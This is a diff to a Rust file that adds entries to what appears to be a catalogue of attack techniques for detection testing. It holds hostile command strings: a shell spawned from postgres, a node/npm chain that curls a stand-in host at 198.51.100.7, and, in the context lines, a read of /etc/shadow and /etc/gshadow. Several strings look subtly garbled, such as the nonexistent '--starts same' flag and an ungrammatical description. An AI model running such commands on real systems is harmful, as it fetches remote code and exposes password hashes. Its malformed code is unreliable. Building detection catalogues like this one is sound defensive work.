@@ -198,6 +198,18 @@ pub(super) const TECHNIQUES: &[Technique] = &[
         "scripts of every day ask by these tools too",
     ),
     told(
+        "a-shell-of-a-database-with-more-words",
+        Exec,
+        "postgres --starts same sh -c id true",
+        &[DATABASE],
+    ),
+    told(
+        "a-servers-own-package-manager",
+        Start,
+        "exec node --starts same node /usr/bin/npm --starts same sh -c 'curl -s http://198.51.100.7/x'",
+        &[COMMAND],
+    ),
+    told(
         "daemons-read-secrets",
         Exec,
         "setsid sh -c 'cat /etc/shadow /etc/gshadow & :'; sleep 0.1",
